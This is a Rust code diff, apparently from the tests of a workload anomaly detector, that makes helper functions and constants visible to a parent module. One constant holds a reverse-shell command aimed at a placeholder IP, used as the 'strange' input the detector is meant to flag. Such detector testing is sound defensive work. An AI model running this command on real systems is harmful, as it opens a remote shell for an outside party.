@@ -8,17 +8,17 @@ use crate::{
     text::command_line,
 };
 
-const STRANGE: &str = "bash -i >& /dev/tcp/203.0.113.9/4242 0>&1";
+pub(super) const STRANGE: &str = "bash -i >& /dev/tcp/203.0.113.9/4242 0>&1";
 
-fn bash() -> Behaviour {
+pub(super) fn bash() -> Behaviour {
     process("/usr/bin/python3", "/usr/bin/bash")
 }
 
-fn line(script: &str) -> String {
+pub(super) fn line(script: &str) -> String {
     command_line(&["bash", "-c", script].map(str::to_owned))
 }
 
-fn with(script: &str) -> Attributes {
+pub(super) fn with(script: &str) -> Attributes {
     Attributes {
         commands: [line(script)].into(),
         ..Attributes::default()
@@ -26,7 +26,7 @@ fn with(script: &str) -> Attributes {
 }
 
 /// The behaviour that an unusual command is.
-fn unusual(script: &str) -> Behaviour {
+pub(super) fn unusual(script: &str) -> Behaviour {
     behaviour(ProcessParts {
         command: Some(line(script)),
         ..parts("/usr/bin/python3", "/usr/bin/bash")
@@ -41,7 +41,7 @@ fn word(number: u8) -> String {
 }
 
 /// A workload that learned five dozen everyday commands, and judges.
-fn learned() -> World {
+pub(super) fn learned() -> World {
     let mut world = World::mature();
     for number in 0..30 {
         let data = word(number);
